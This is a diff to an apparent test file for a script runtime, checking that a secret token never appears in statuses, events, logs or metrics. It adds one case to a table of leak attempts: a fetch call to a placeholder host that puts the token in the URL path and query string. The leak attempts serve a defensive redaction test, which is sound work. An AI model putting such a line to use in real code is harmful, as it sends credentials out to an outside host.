@@ -85,6 +85,7 @@ const LEAKS: Readonly<Record<string, string>> = {
   aggregate: 'throw new AggregateError([new Error(env.TOKEN), env.TOKEN], "x")',
   host: 'await count(env.TOKEN); throw new Error(env.TOKEN)',
   import: 'await import(env.TOKEN)',
+  url: 'await fetch(`https://a.example/hooks/${env.TOKEN}/${encodeURIComponent(env.TOKEN)}?key=${env.TOKEN}`)',
 };
 
 test('no script can tell it: it is in no status, event, log line or metric', async () => {
@@ -101,6 +102,7 @@ test('no script can tell it: it is in no status, event, log line or metric', asy
   texts.push(found, JSON.stringify(await cluster.getRuntime('default')));
   texts.push(pod.process.tail(1_000_000), await (await fetch(`http://${pod.object.address}:8080/metrics`)).text());
   expect(texts.at(-2)).toContain('"source":"script"');
+  expect(texts.at(-2)).toContain('request of a script');
   const forms = [
     TOKEN,
     JSON.stringify(TOKEN).slice(1, -1),
